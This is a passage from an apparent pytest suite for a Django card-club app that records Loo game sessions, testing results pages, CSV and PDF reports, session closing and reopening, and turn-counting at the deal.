    assert '<span id="game" data-game="poker-loo">poker-Loo</span>' in html


def test_club_results(closed_session, club, member_for, viewer_client, client):
    from tests.reports.conftest import record_hand_session

    other = record_hand_session(club, n_deals=2, correct=False)  # open: left out
    assert other.status == "open"
    body = viewer_client.get("/api/v1/clubs/oak/results", {"from": "2026-11-01", "to": "2026-11-30"}).json()
    rows = {r["player"]: r for r in body["players"]}
    assert {p: r["result"] for p, r in rows.items()} == kit.EXPECTED["result_money"]
    assert rows["bob"]["sessions"] == 1 and rows["ann"]["chips_bought"] == 160
    assert [r["player"] for r in body["players"]] == ["bob", "dan", "cat", "ann"]  # best first
    empty = viewer_client.get("/api/v1/clubs/oak/results", {"from": "2026-12-01"}).json()
    assert empty["players"] == []
    text = viewer_client.get("/api/v1/clubs/oak/results", {"format": "csv"}).content.decode()
    assert next(iter(csv.DictReader(io.StringIO(text))))["result"] == "29.50"
    bad = viewer_client.get("/api/v1/clubs/oak/results", {"from": "28/11/2026"})
    assert bad.status_code == 400
    client.force_login(member_for("viewer").user)
    page = client.get("/clubs/oak/results/", {"from": "2026-11-01"}).content.decode()
    assert 'data-player="bob"' in page and "29.50" in page and '<a href="/">Home</a>' in page
    assert json.loads(json.dumps(body))  # plain JSON
    # a range that ends before it starts, or a date that is not one: refused, saying why
    backwards = {"from": "2026-11-30", "to": "2026-11-01"}
    refused = viewer_client.get("/api/v1/clubs/oak/results", backwards)
    assert refused.status_code == 400 and "is after to" in refused.json()["detail"]
    assert viewer_client.get("/api/v1/clubs/oak/results", {"to": "20261130"}).status_code == 400
    for query, says in ((backwards, "from (2026-11-30) is after to (2026-11-01)"),
                        ({"from": "bogus"}, "from must be a date like 2026-11-30"),
                        ({"to": "20261130"}, "to must be a date like 2026-11-30"),
                        ({"date_from": "bogus"}, "date_from must be a date like 2026-11-30")):
        page = client.get("/clubs/oak/results/", query)
        html = page.content.decode()
        assert page.status_code == 400 and page["Content-Type"].startswith("text/html")
        assert 'id="error"' in html and says in html
        for field, typed in query.items():  # what was typed is shown again, in the form's box
            assert f'name="{field.removeprefix("date_")}" value="{typed}"' in html


def test_the_results_pages_csv_link_is_the_csv_of_the_range_shown(closed_session, client,
                                                                   member_for):
    """The CSV link carried the page's whole query: a page asked with ``?format=json`` linked
    "CSV" to ``?format=csv&format=json``, which answered JSON. (Such a page is now a 400, as a
    parameter it does not take: tests/api/test_query_parameters.py.)"""
    client.force_login(member_for("viewer").user)
    for query, link in (
            ({"from": "2026-11-01"},
             "/api/v1/clubs/oak/results?format=csv&amp;date_from=2026-11-01"),
            ({"date_to": "2026-11-30", "to": "2026-11-30"},
             "/api/v1/clubs/oak/results?format=csv&amp;date_to=2026-11-30"),
            ({}, "/api/v1/clubs/oak/results?format=csv")):
        html = client.get("/clubs/oak/results/", query).content.decode()
        assert f'<a href="{link}">CSV</a>' in html, html[html.index("<form"):html.index("</form>")]
        answer = client.get(link.replace("&amp;", "&"))
        assert answer.status_code == 200 and answer["Content-Type"].startswith("text/csv")
        rows = list(csv.DictReader(io.StringIO(answer.content.decode())))
        assert {r["player"]: r["result"] for r in rows}["bob"] == "29.50"


def test_club_results_page_names_the_currency_and_best_and_worst(closed_session, club, client,
                                                                 member_for):
    import datetime as dt

    from games.services.closing import session_close
    from games.services.sessions import session_create

    client.force_login(member_for("viewer").user)
    html = client.get("/clubs/oak/results/").content.decode()
    assert '<th scope="col" class="num" id="result-head">Result (GBP)</th>' in html
    assert "Best session (GBP)" in html and "Worst session (GBP)" in html
    bob = html[html.index('<tr data-player="bob">'):]
    bob = bob[:bob.index("</tr>")]
    assert 'data-best="2950">29.50<' in bob and 'data-worst="2950">29.50<' in bob
    # a second closed session in euros: each row's money is in its own currency, said so
    euros = session_create(club=club, date=dt.date(2026, 11, 29), seats=["ann", "bob"],
                           first_dealer="ann", rules={"preset": "three-card"}, currency="EUR",
                           buy_ins={"ann": 10, "bob": 10})
    session_close(session=euros, user=member_for("scorer").user)
    html = client.get("/clubs/oak/results/").content.decode()
    assert "Result (in the row&#x27;s currency)" in html
    assert html.count('<tr data-player="bob">') == 2


def test_club_results_page_without_closed_sessions_says_so(club, client, member_for):
    client.force_login(member_for("viewer").user)
    html = client.get("/clubs/oak/results/").content.decode()
    assert "No closed sessions yet" in html
    assert "No closed sessions in this range" in client.get(
        "/clubs/oak/results/", {"from": "2026-01-01"}).content.decode()


def test_close_with_idempotency_key_closes_once(hand_session, scorer_client):
    from games.models import LedgerEntry

    first = scorer_client.post(url(hand_session, "close"), HTTP_IDEMPOTENCY_KEY="close-1")
    again = scorer_client.post(url(hand_session, "close"), HTTP_IDEMPOTENCY_KEY="close-1")
    assert first.status_code == again.status_code == 200
    assert again["Idempotent-Replayed"] == "true" and again.json() == first.json()
    assert LedgerEntry.objects.filter(session=hand_session, kind="buyback", account="bank").count() == 1


def test_an_unknown_format_is_406_like_an_unknown_accept(closed_session, viewer_client):
    by_query = viewer_client.get(url(closed_session, "report"), {"format": "xml"})
    by_header = viewer_client.get(url(closed_session, "report"), HTTP_ACCEPT="application/xml")
    assert by_query.status_code == by_header.status_code == 406
    body = by_query.json()
    assert body["code"] == "not-acceptable" and by_query["Content-Type"] == "application/problem+json"
    assert '"xml"' in body["detail"] and "csv" in body["detail"] and "pdf" in body["detail"]


def test_an_unmatched_accept_header_names_the_media_types_offered(closed_session, viewer_client):
    # DRF's own 406 said only "Could not satisfy the request Accept header."
    by_header = problem(viewer_client.get(url(closed_session, "report"),
                                               HTTP_ACCEPT="application/xml"), 406)
    assert '"application/xml"' in by_header["detail"]
    assert all(kind in by_header["detail"] for kind in ("application/json", "text/csv", "application/pdf"))
    # ?format= and Accept that disagree: what the format leaves on offer is named
    both = problem(viewer_client.get(url(closed_session, "report"), {"format": "json"},
                                          HTTP_ACCEPT="text/csv"), 406)
    assert '"text/csv"' in both["detail"] and "application/json" in both["detail"]
    assert "application/pdf" not in both["detail"]


def test_a_close_whose_answer_fails_is_not_stored(hand_session, scorer_client, monkeypatch):
    # the settlement answered is part of the close: if building it fails, nothing is closed
    from games.models import GameSession, LedgerEntry
    from games.reports import api

    def broken(session):
        raise RuntimeError("the report cannot be built")

    monkeypatch.setattr(api, "session_report", broken)
    with pytest.raises(RuntimeError):
        scorer_client.post(url(hand_session, "close"))
    assert GameSession.objects.get(pk=hand_session.pk).status == "open"
    assert not LedgerEntry.objects.filter(session=hand_session, kind="buyback").exists()


def test_a_misdeal_dealt_again_is_one_turn_at_the_deal(club, scorer_client):
    # ann, bob, cat and dan deal once each; bob misdeals first and deals again. Closing must not
    # warn that bob dealt more often, and the report's Dealt column says 1 for everybody
    import datetime as dt

    from games.services.deals import deal_record
    from games.services.sessions import session_create

    session = session_create(club=club, date=dt.date(2026, 11, 30), seats=kit.SEATS,
                             first_dealer="ann", rules={"game": "three-card"},
                             buy_ins={s: 20 for s in kit.SEATS})
    records = [{"result": {"tricks": {"bob": 3}}},
               {"actions": [{"player": "bob", "action": "irregularity", "kind": "misdeal"}]},
               {"result": {"tricks": {"cat": 3}}}, {"result": {"tricks": {"dan": 3}}},
               {"result": {"tricks": {"ann": 2, "bob": 1}}}]
    for number, record in enumerate(records, 1):
        deal_record(session=session, number=number, record={"format": "loo-deal/1", **record})
    assert [d.current.verdict["dealer"] for d in session.deals.order_by("number")] == [
        "ann", "bob", "bob", "cat", "dan"]
    closed = scorer_client.post(url(session, "close"), {}, format="json").json()
    assert not any("dealt equally" in w for w in closed["warnings"]), closed["warnings"]
    report = scorer_client.get(url(session, "report")).json()
    assert {p["name"]: p["times_dealt"] for p in report["players"]} == {s: 1 for s in kit.SEATS}


#: three-card result-only deals (everybody plays, the others are looed 3 each): whoever deals
#: them, the named player takes all three tricks
TAKES = {s: {"result": {"tricks": {s: 3}}} for s in kit.SEATS}
MISDEAL = {s: {"actions": f"{s} ! misdeal"} for s in kit.SEATS}
#: three-trumps-redeal: the eldest shows three trumps (diamonds turned), takes the pool, and the
#: same dealer deals again
REDEAL = {s: {"turnup": "7D", "hands": {s: ["AD", "KD", "2D"]}, "actions": f"{s} flush"}
          for s in kit.SEATS}
ALL_PASS = "ann pass; bob pass; cat pass; dan pass"  # from eldest, the order does not matter
POKER_FIRST = {"result": {"tricks": {"bob": 3, "cat": 1, "ann": 1}}}  # dan burned: the series goes on
CAT_ALONE = {"actions": "ann pass; bob pass; cat stand; dan pass"}  # takes the pot: series ends
EQUAL = {s: 1 for s in kit.SEATS}


@pytest.mark.parametrize(("rules", "records", "dealers", "turns"), [
    # ann, bob and cat deal; dan misdeals and the table closes on it: the deal had come to dan,
    # his turn (it was counted 0 and the closing warned "dan 0")
    ({}, [TAKES["bob"], TAKES["cat"], TAKES["dan"], MISDEAL["dan"]],
     ["ann", "bob", "cat", "dan"], EQUAL),
    # a round, then ann misdeals the next round's first deal and the table closes: ann's second
    # turn had begun (it was counted 0 and the closing said all had dealt equally)
    ({}, [TAKES["bob"], TAKES["cat"], TAKES["dan"], TAKES["ann"], MISDEAL["ann"]],
     ["ann", "bob", "cat", "dan", "ann"], {"ann": 2, "bob": 1, "cat": 1, "dan": 1}),
    # three-trumps-redeal: cat shows three trumps on bob's deal, bob deals again: one turn
    ({"flush": "three-trumps-redeal"},
     [TAKES["bob"], REDEAL["cat"], TAKES["cat"], TAKES["dan"], TAKES["ann"]],
     ["ann", "bob", "bob", "cat", "dan"], EQUAL),
    # ... and shown on dan's deal, the last: dan's turn all the same
    ({"flush": "three-trumps-redeal"}, [TAKES["bob"], TAKES["cat"], TAKES["dan"], REDEAL["ann"]],
     ["ann", "bob", "cat", "dan"], EQUAL),
    # five-card: every deal passed by all, the pool carried: the deal passes on each time
    ({"game": "five-card"}, [{"turnup": "3H", "actions": ALL_PASS}] * 4,
     ["ann", "bob", "cat", "dan"], EQUAL),
    # poker-Loo: bob's deal all folded, dealt again by bob; dan's, the last, all folded too
    ({"game": "poker-loo"},
     [POKER_FIRST, {"actions": ALL_PASS}, CAT_ALONE, {"result": {"tricks": {"dan": 3, "ann": 1, "bob": 1}}},
      {"actions": ALL_PASS}],
     ["ann", "bob", "bob", "cat", "dan"], EQUAL),
    # poker-Loo: bob exposes a card on dan's deal, the last: thrown in, dan's turn all the same
    ({"game": "poker-loo"},
     [POKER_FIRST, CAT_ALONE, {"result": {"tricks": {"dan": 3, "ann": 1, "bob": 1}}},
      {"turnup": "2H", "actions": f"{ALL_PASS.replace('pass', 'stand')}; ann AH; bob ! exposed-card 7D"}],
     ["ann", "bob", "cat", "dan"], EQUAL),
    # end_pool final-deal: a round, then ann misdeals the final deal and deals it again: the
    # final deal plays the pool off after the rounds, no turn (ann was counted 2)
    ({"end_pool": "final-deal"},
     [TAKES["bob"], TAKES["cat"], TAKES["dan"], TAKES["bob"],
      {"final": True, **MISDEAL["ann"]}, {"final": True, **TAKES["cat"]}],
     ["ann", "bob", "cat", "dan", "ann", "ann"], EQUAL),
    # ... dealt by cat before the round was complete: neither cat nor dan had a turn of it
    ({"end_pool": "final-deal"}, [TAKES["bob"], TAKES["cat"], {"final": True, **TAKES["dan"]}],
     ["ann", "bob", "cat"], {"ann": 1, "bob": 1, "cat": 0, "dan": 0}),
], ids=["closed-on-a-misdeal", "misdeal-opens-a-round", "redeal-dealt-again", "closed-on-a-redeal",
        "five-card-all-pass", "poker-all-fold", "poker-thrown-in", "final-deal-misdealt",
        "final-deal-early"])
def test_turns_at_the_deal_in_the_warning_and_the_report(club, scorer_client, rules, records,
                                                        dealers, turns):
    # Hand-worked small sessions (four seats, ann deals first): who dealt each deal, each
    # player's turns at the deal, and the closing's warning exactly when they differ
    import datetime as dt

    from games.rules import actions_from_text
    from games.services.deals import deal_record
    from games.services.sessions import session_create

    session = session_create(club=club, date=dt.date(2026, 12, 4), seats=kit.SEATS,
                             first_dealer="ann", rules={"game": "three-card", **rules},
                             buy_ins={s: 100 for s in kit.SEATS})
    for number, record in enumerate(records, 1):
        record = {"format": "loo-deal/1", **record}
        if isinstance(record.get("actions"), str):
            record["actions"] = actions_from_text(record["actions"])
        deal_record(session=session, number=number, record=record)
    assert [d.current.verdict["dealer"] for d in session.deals.order_by("number")] == dealers
    closed = scorer_client.post(url(session, "close"), {}, format="json").json()
    dealt = [w for w in closed["warnings"] if "dealt equally" in w]
    listed = ", ".join(f"{s} {n}" for s, n in turns.items())
    assert dealt == ([] if len(set(turns.values())) == 1
                     else [f"Players have not dealt equally often: {listed}."])
    report = scorer_client.get(url(session, "report")).json()
    assert {p["name"]: p["times_dealt"] for p in report["players"]} == turns


def test_a_closing_reason_past_its_bound_is_refused_and_nothing_closes(hand_session, scorer_client):
    # the session file carries the reason in its close line, whose size the import's cap counts
    from games.services import limits

    too_long = problem(scorer_client.post(url(hand_session, "close"), {
        "reason": "x" * (limits.MAX_REASON_CHARS + 1)}, format="json"), 400)
    assert too_long["errors"][0]["field"] == "reason"
    assert too_long["detail"] == ("The closing's reason is 1,001 characters long; it may be at "
                                  "most 1,000.")
    hand_session.refresh_from_db()
    assert hand_session.is_open
    assert scorer_client.post(url(hand_session, "close"), {
        "reason": "x" * limits.MAX_REASON_CHARS}, format="json").status_code == 200


@pytest.mark.parametrize("body", [{"reason": ["end", "of", "night"]}, {"reason": {"why": "late"}},
                                  {"reason": 5}, {"reason": True}, ["end of the evening"]])
def test_a_closing_reason_that_is_not_text_is_refused_and_nothing_closes(hand_session,
                                                                          scorer_client, body):
    # it was stored as its Python repr ("['end', 'of', 'night']") in the log and the file
    refused = problem(scorer_client.post(url(hand_session, "close"), body, format="json"), 400)
    assert refused["code"] == "validation-error"
    assert refused["errors"][0]["field"] == ("reason" if isinstance(body, dict) else None)
    hand_session.refresh_from_db()
    assert hand_session.is_open


def test_a_null_closing_reason_is_no_reason(hand_session, scorer_client, owner_client):
    from games.models import SessionClosing

    assert scorer_client.post(url(hand_session, "close"), {"reason": None},
                              format="json").status_code == 200
    for reason in (["typo"], None):  # a reopen's reason must be text, and given
        refused = problem(owner_client.post(url(hand_session, "reopen"), {"reason": reason},
                                            format="json"), 400)
        assert refused["errors"][0]["field"] == "reason"
    assert list(SessionClosing.objects.values_list("action", "reason")) == [("close", "")]
    # the session file's close line said {"reason": "None"}
    last = scorer_client.get(url(hand_session, "file")).content.decode().splitlines()[-1]
    assert "None" not in last and json.loads(last)["close"].get("reason", "") == ""


def test_the_close_and_reopen_write_their_moments_as_every_answer_does(closed_session,
                                                                       scorer_client, owner_client):
    # they said "...+00:00" where the session, the closings log and every other answer say "Z"
    closed_at = closed_session.close_answer["closed_at"]
    assert closed_at == scorer_client.get(url(closed_session, "")).json()["closed_at"]
    assert closed_at.endswith("Z")
    # the report JSON said "...T01:10+00:00", to the minute, where the close said "...Z"
    report = scorer_client.get(url(closed_session, "report")).json()
    assert report["closed_at"] == closed_at == report["history"][-1]["at"]
    reopened = owner_client.post(url(closed_session, "reopen"), {"reason": "recount"},
                                 format="json").json()
    log = scorer_client.get(url(closed_session, "closings")).json()
    assert reopened["reopened_at"] == log[-1]["at"] and reopened["reopened_at"].endswith("Z")


def test_a_reopening_reverses_the_last_closing_though_the_clock_went_back(
        closed_session, owner_client, monkeypatch):
    """The closings log is ordered as its rows were written (each under the session's lock),
    not by the wall clock: a close stamped before the reopening it follows (the host's clock
    stepped back, as NTP may do) is still the one a reopening reverses. Ordered by the stamp,
    the reopening took the earlier reopen for the last word, reversed nothing and left every
    chip bought back and the pool split in an open session (each seat 0, the pool 0 where the
    last deal left 9); and the closed session's report stood on no closing (provisional)."""
    import datetime as dt

    from django.utils import timezone

    from games.models import SessionClosing
    from games.services.ledger import ledger_balances, ledger_check

    assert owner_client.post(url(closed_session, "reopen"), {"reason": "one"},
                             format="json").status_code == 200
    first = SessionClosing.objects.filter(session=closed_session).order_by("id").first()
    earlier = first.at - dt.timedelta(hours=1)
    monkeypatch.setattr(timezone, "now", lambda: earlier)  # the clock stepped back an hour
    again = owner_client.post(url(closed_session, "close"), {"reason": "two"}, format="json")
    assert again.status_code == 200, again.content
    assert owner_client.get(url(closed_session, "report")).json()["final"] is True
    history = owner_client.get(url(closed_session, "closings")).json()
    assert [(h["action"], h["reason"]) for h in history] == [
        ("close", "end of the evening"), ("reopen", "one"), ("close", "two")]
    assert owner_client.post(url(closed_session, "reopen"), {"reason": "three"},
                             format="json").status_code == 200
    balances = ledger_balances(closed_session)
    # reversed: each seat holds its chips again (bought + won) and the pool its 9
    assert balances["pool"] == 9
    assert {s: balances[s] for s in kit.SEATS} == {
        s: kit.EXPECTED["bought"][s] + kit.EXPECTED["won"][s] for s in kit.SEATS}
    assert ledger_check(closed_session) == []


def test_a_pdf_drawn_by_an_older_look_of_the_report_is_not_served(closed_session, viewer_client,
                                                                 settings, tmp_path):
    """A release that changes how the report looks (a template, the charts) rendered a closed
    session's PDF once: its report never changes, so the PDF cached under its fingerprint was
    served as the older release drew it until the prune's cutoff, 30 days on."""
    from pypdf import PdfReader

    def pdf_text() -> str:
        response = get_pdf(viewer_client, closed_session)
        assert response.status_code == 200
        pdf = b"".join(response.streaming_content)
        return " ".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf)).pages)

    assert "(new look)" not in pdf_text()
    styles = tmp_path / "templates" / "reports"
    styles.mkdir(parents=True)
    here = settings.BASE_DIR / "games" / "templates" / "reports" / "_style.html"
    (styles / "_style.html").write_text(  # the next release's style, found first
        here.read_text().replace("</style>", 'h1::after { content: " (new look)"; }\n</style>'))
    settings.TEMPLATES = [{**settings.TEMPLATES[0],
                           "DIRS": [tmp_path / "templates", *settings.TEMPLATES[0]["DIRS"]]}]
    assert "(new look)" in pdf_text()
